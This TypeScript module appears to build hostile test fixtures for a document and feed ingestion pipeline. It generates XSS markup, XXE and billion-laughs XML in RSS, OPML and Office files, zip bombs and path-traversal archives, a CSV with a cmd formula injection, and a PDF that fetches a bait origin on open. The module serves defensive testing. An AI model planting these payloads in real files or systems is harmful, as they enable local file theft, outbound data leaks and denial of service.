import { makeZip, type ZipMember } from './zip-file.ts';

/** Where hostile files want something read from or sent to. */
export interface Bait {
  /** Address of a server that nobody may ask. */
  origin: string;
  /** Path of a file that nobody may read. */
  file: string;
}

const HTML_HEAD = '<!DOCTYPE html><html><head><meta charset="utf-8">';

/** Markup that runs something, or asks another host, where it is shown as markup; each says `run(NAME)` or names the origin. */
export function listMarkup({ origin }: Bait): string[] {
  return [
    '<script>run("script")</script>',
    `<script src="${origin}/s.js"></script>`,
    '<img src=x onerror="run(\'img\')">',
    '<svg onload="run(\'svg\')"><animate onbegin="run(\'animate\')" attributeName=x dur=1s></svg>',
    '<svg><script>run("svg script")</script><a xlink:href="javascript:run(1)"><text>x</text></a><use href="data:image/svg+xml,x#x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run(\'math\')&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=run("form")>',
    '<noscript><p title="</noscript><img src=x onerror=run(\'noscript\')>">',
    '<template><img src=x onerror=run("template")></template>',
    '<a href="javascript:run(\'href\')">javascript link</a> <a href="jAvAsCrIpT&colon;run(1)">x</a> <a href="data:text/html,<script>run(1)</script>">y</a>',
    `<iframe srcdoc="<script>parent.run('srcdoc')</script>"></iframe><iframe src="${origin}/f"></iframe>`,
    `<object data="${origin}/o"></object><embed src="${origin}/e"><video poster="${origin}/v"><audio src="${origin}/a" autoplay>`,
    `<style>@import url(${origin}/i.css);body{background:url(${origin}/bg)}</style><p style="background:url(${origin}/p)">styled</p>`,
    `<link rel=stylesheet href="${origin}/l.css"><link rel=prefetch href="${origin}/pre"><meta http-equiv=refresh content="0;url=${origin}/m"><base href="${origin}/">`,
    '<details open ontoggle=run("details")><summary>x</summary></details><input autofocus onfocus=run("focus")><body onload=run("body")>',
    `<img src="${origin}/pixel.gif" srcset="${origin}/2x 2x"><picture><source srcset="${origin}/pic"></picture>`,
    '&lt;img src=x onerror=run("escaped")&gt; &amp;lt;script&amp;gt;run("twice")&amp;lt;/script&amp;gt;',
    '"><script>run("quote")</script><!--><img src=x onerror=run("comment")>--><![CDATA[<script>run("cdata")</script>]]>',
    '{{constructor.constructor("run(1)")()}} {{{this}}} #{run(1)} <%= run(1) %>',
  ];
}

/** Words that hide or turn other words round. */
export const SLY_WORDS = 'a\u202egnp.exe\u202c b\u2066c\u2069 z\u200bw d\u0000e \ufeffbom \u{e0041}tag \ud800lone';

const xxe = ({ origin, file }: Bait): string =>
  `<!DOCTYPE r [<!ENTITY a SYSTEM "file://${file}"><!ENTITY b SYSTEM "${origin}/xxe"><!ENTITY % c SYSTEM "${origin}/dtd"> %c;<!ENTITY d PUBLIC "x" "${origin}/public">]>`;
const LAUGHS = `<!DOCTYPE r [<!ENTITY l0 "lollollol">${Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`;
const REFERENCES = 'x&a;&b;&d;&l12;y';

const rss = (doctype: string, title: string, body: string, link = 'https://example.com/1'): string =>
  `<?xml version="1.0" encoding="UTF-8"?>${doctype}<rss version="2.0"><channel><title>${title}</title><item><title>${title}</title><link>${link}</link><author>${title}</author><description>${body}</description></item></channel></rss>`;
const cdata = (words: string): string => `<![CDATA[${words.replace(/]]>/g, ']] >')}]]>`;
const page = (title: string, body: string): string =>
  `${HTML_HEAD}<title>${title}</title><meta name="author" content="<img src=x onerror=run('author')>"></head><body><article><h1>${title}</h1>${body}</article></body></html>`;
const paragraph = '<p>甲云周三宣布，将在香港与新加坡各开通一个新的可用区，以满足游戏与金融客户的需求，价格不变。</p>';

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function docx(doctype: string, words: string): Buffer {
  return makeZip([
    {
      name: '[Content_Types].xml',
      content:
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    },
    {
      name: '_rels/.rels',
      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?>${doctype}<w:document ${WORD}><w:body><w:p><w:r><w:t>甲云开服 ${words}</w:t></w:r></w:p></w:body></w:document>`,
    },
  ]);
}

function xlsx(doctype: string, words: string): Buffer {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return makeZip([
    {
      name: 'xl/workbook.xml',
      content: `<workbook xmlns="${main}" xmlns:r="${OFFICE}"><sheets><sheet name="一" sheetId="1" r:id="a"/></sheets></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `<?xml version="1.0"?>${doctype}<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>厂商</t></is></c><c r="B1" t="inlineStr"><is><t>${words}</t></is></c></row></sheetData></worksheet>`,
    },
  ]);
}

const article = (title: string): string => `---\ntitle: ${title}\ndate: 2026-03-04\n---\n\n${title}的正文。\n`;

function nested(depth: number): Buffer {
  let inner: ZipMember = { name: 'deep.md', content: article('最深处') };
  for (let level = 0; level < depth; level++)
    inner = {
      name: `level${level}.zip`,
      content: makeZip([inner, { name: `at${level}.md`, content: article(`第${level}层`) }]),
    };
  return makeZip([inner]);
}

/** Documents that reach for files and addresses, or grow beyond measure. */
const makeDocuments = (bait: Bait): Record<string, string | Buffer> => ({
  'xml/xxe.xml': rss(xxe(bait), '外部实体', REFERENCES, 'https://example.com/xxe'),
  'xml/laughs.xml': rss(LAUGHS, '十亿个笑', REFERENCES.repeat(20), 'https://example.com/laughs'),
  'xml/quadratic.xml': rss(
    `<!DOCTYPE r [<!ENTITY l12 "${'z'.repeat(100_000)}">]>`,
    '平方',
    '&l12;'.repeat(5000),
    'https://example.com/square',
  ),
  'xml/xxe.opml': `<?xml version="1.0"?>${xxe(bait)}<opml version="2.0"><body><outline text="&a;&b;" xmlUrl="https://example.com/&a;"/></body></opml>`,
  'xml/deep.xml': rss('', '很深', `${'<b>'.repeat(100_000)}x`),
  'office/xxe.docx': docx(xxe(bait), REFERENCES),
  'office/laughs.docx': docx(LAUGHS, REFERENCES),
  'office/xxe.xlsx': xlsx(xxe(bait), REFERENCES),
  'office/laughs.xlsx': xlsx(LAUGHS, REFERENCES),
  'office/script.pdf': pdfWithScript(bait),
  'zip/nested.zip': nested(5),
  'zip/names.zip': makeZip([
    { name: '../../../../tmp/evil.md', content: article('出界') },
    { name: '/abs.md', content: article('绝对') },
    { name: 'C:\\evil.md', content: article('盘符') },
    { name: 'link', content: '/etc/passwd', mode: 0o120777 },
    { name: 'good.md', content: article('好的') },
  ]),
  'zip/lies.zip': makeZip([
    { name: 'small.md', content: Buffer.alloc(40_000_000, 0x20), declared: 20 },
    { name: 'good.md', content: article('也好') },
  ]),
  'zip/many.zip': makeZip(Array.from({ length: 10_001 }, (_, i) => ({ name: `${i}.md`, content: '' }))),
  'zip/bomb.zip': makeZip([{ name: 'blank.txt', content: Buffer.alloc(220_000_000) }]),
});

/** Files that mean harm, by name; each is read or refused with a reason, and does nothing else. */
export function makeHostileFiles(bait: Bait): Record<string, string | Buffer> {
  const markup = listMarkup(bait);
  const all = markup.join('\n');
  const escaped = all.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  const title = '<img src=x onerror=run("title")><script>run("title")</script>标题';
  return {
    ...makeDocuments(bait),
    'page/markup.html': page(title, paragraph.repeat(3) + all + paragraph),
    ...Object.fromEntries(
      markup.map((one, i) => [`page/one-${i}.html`, page(`之${i}`, paragraph.repeat(3) + one + paragraph)]),
    ),
    'page/deep.html': page('很深的页', `${'<div>'.repeat(100_000)}甲云开服${'</div>'.repeat(100_000)}`),
    'page/open.html': page('不收的页', `${paragraph}${'<a <b <!-- <![CDATA[ &#x &'.repeat(20_000)}`),
    'feed/markup.xml': rss('', cdata(title), cdata(all), cdata('javascript:run("link")')),
    'feed/escaped.xml': rss('', escaped, escaped, 'data:text/html,&lt;script&gt;run(1)&lt;/script&gt;'),
    'feed/markup.json': JSON.stringify({
      version: 'https://jsonfeed.org/version/1.1',
      title,
      items: [{ id: '1', url: 'javascript:run("json")', title, content_html: all, author: { name: title } }],
    }),
    'feed/deep.json': `{"version":"https://jsonfeed.org/version/1.1","items":[${'['.repeat(200_000)}`,
    'text/markup.md': `---\ntitle: '${title.replace(/'/g, "''")}'\nurl: 'javascript:run("md")'\nauthor: '<b onclick=run(1)>x'\n---\n\n${all}\n\n[x](javascript:run("md"))\n![y](${bait.origin}/y.png)\n`,
    'text/sly.json': `{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","title":"暗语","content_text":${JSON.stringify(SLY_WORDS)}}]}`,
    'text/table.csv': `# title: 公式\n厂商,价格\n"=HYPERLINK(""${bait.origin}"")","+1"\n"@SUM(1)","-1+cmd|' /C calc'!A0"\n${title},2\n`,
    'text/<img src=x onerror=run(1)>.md': article('文件名'),
    'mail/markup.eml': `From: "${title.replace(/"/g, "'")}" <a@example.com>\nTo: b@example.com\nSubject: ${title.replace(/"/g, "'")}\nDate: Wed, 4 Mar 2026 10:00:00 +0800\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n${all}${paragraph}`,
    'mail/deep.eml': deepMail(),
    'mail/markup.mhtml': `From: <Saved by Blink>\nSnapshot-Content-Location: https://example.com/saved\nSubject: x\nDate: Wed, 4 Mar 2026 10:00:00 +0800\nMIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary="b"\n\n--b\nContent-Type: text/html\nContent-Location: https://example.com/saved\n\n${page(title, paragraph.repeat(3) + all)}\n--b--\n`,
  };
}

function deepMail(): string {
  const depth = 2000;
  const open = Array.from(
    { length: depth },
    (_, i) => `Content-Type: multipart/mixed; boundary="b${i}"\n\n--b${i}\n`,
  ).join('');
  return `From: a@example.com\nTo: b@example.com\nSubject: 很深的信\nMIME-Version: 1.0\n${open}Content-Type: text/plain\n\n甲云开服\n`;
}

/** A page of words that runs a script when it is opened, and asks for an address. */
function pdfWithScript({ origin }: Bait): string {
  const words = 'BT /F1 18 Tf 20 100 Td (Alpha Cloud opens a zone) Tj ET';
  return `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("${origin}/pdf"\\))>>/AA<</WC<</S/URI/URI(${origin}/uri)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length ${words.length}>>stream
${words}
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Root 1 0 R>>
`;
}
